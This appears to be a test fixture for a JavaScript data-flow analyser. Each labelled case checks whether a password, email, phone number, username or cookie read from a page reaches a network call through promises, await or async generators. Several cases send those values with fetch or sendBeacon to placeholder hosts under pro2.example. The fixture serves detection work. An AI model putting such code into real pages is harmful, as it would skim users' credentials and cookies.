//# then-chain
// flow: email > then.pro2.example via fetch
Promise.resolve(document.querySelector('input[type=email]').value)
  .then((v) => v.trim())
  .then((v) => fetch('https://then.pro2.example/', { method: 'POST', body: v }));

//# then-drops-value
// no flow
// why: the first callback returns another value
Promise.resolve(document.querySelector('input[type=email]').value)
  .then((v) => 'done')
  .then((v) => fetch('https://then0.pro2.example/', { method: 'POST', body: v }));

//# await-result
// flow: password > aw.pro2.example via fetch
async function readPw() { return document.querySelector('input[type=password]').value; }
(async function () {
  const pw = await readPw();
  await fetch('https://aw.pro2.example/', { method: 'POST', body: pw });
})();

//# await-of-other
// no flow
// why: the awaited function returns a fixed version
async function readVersion() {
  const pw = document.querySelector('input[type=password]').value;
  console.log(pw.length);
  return '1.2.3';
}
(async () => fetch('https://aw0.pro2.example/?v=' + (await readVersion())))();

//# promise-all-second
// flow: phone > all.pro2.example via fetch
Promise.all([Promise.resolve('v'), Promise.resolve(document.querySelector('input[type=tel]').value)])
  .then(([v, tel]) => fetch('https://all.pro2.example/', { method: 'POST', body: tel }));

//# promise-all-first
// no flow
// why: only the fixed first result is used
Promise.all([Promise.resolve('v'), Promise.resolve(document.querySelector('input[type=tel]').value)])
  .then(([v]) => fetch('https://all0.pro2.example/', { method: 'POST', body: v }));

//# reject-to-catch
// flow: username > rej.pro2.example via beacon
new Promise(function (resolve, reject) {
  reject(document.querySelector('input[autocomplete=username]').value);
}).catch(function (reason) {
  navigator.sendBeacon('https://rej.pro2.example/', reason);
});

//# catch-never-called
// no flow
// why: the promise is resolved, so the catch callback does not run
Promise.resolve(document.querySelector('input[autocomplete=username]').value).catch(function (reason) {
  navigator.sendBeacon('https://rej0.pro2.example/', reason);
});

//# executor-resolve-later
// flow: identifier > tmr.pro2.example via fetch
const later = new Promise((resolve) => setTimeout(() => resolve(document.cookie), 500));
later.then((c) => fetch('https://tmr.pro2.example/', { method: 'POST', body: c }));

//# never-resolved
// no flow
// why: nothing ever resolves this promise
const never = new Promise(() => {});
never.then(() => fetch('https://nev0.pro2.example/', { method: 'POST', body: document.cookie }));

//# finally-keeps-value
// flow: search > fin.pro2.example via fetch
// why: the return value of a finally callback does not replace the result
Promise.resolve(document.querySelector('input[type=search]').value)
  .finally(() => 'ignored')
  .then((q) => fetch('https://fin.pro2.example/?q=' + encodeURIComponent(q)));

//# finally-has-no-argument
// no flow
// why: a finally callback gets no value
Promise.resolve(document.querySelector('input[type=search]').value)
  .finally((q) => fetch('https://fin0.pro2.example/?q=' + q));

//# for-await
// flow: message > gen.pro2.example via fetch
async function* lines() { yield document.querySelector('textarea[name=message]').value; }
(async () => {
  for await (const line of lines()) fetch('https://gen.pro2.example/', { method: 'POST', body: line });
})();

//# generator-not-consumed
// no flow
// why: calling a generator function runs none of its body
async function* send() {
  yield fetch('https://gen0.pro2.example/', { method: 'POST', body: document.querySelector('textarea[name=message]').value });
}
send();

//# then-without-callback-use
// no flow
// why: the callback has no parameter
Promise.resolve(document.cookie).then(function () {
  return fetch('https://tn0.pro2.example/', { method: 'POST', body: 'ok' });
});

//# all-settled-status
// no flow
// why: only the status words are sent
Promise.allSettled([Promise.resolve(document.querySelector('input[type=email]').value)]).then((rs) =>
  fetch('https://as0.pro2.example/?s=' + rs.map((r) => r.status).join())
);
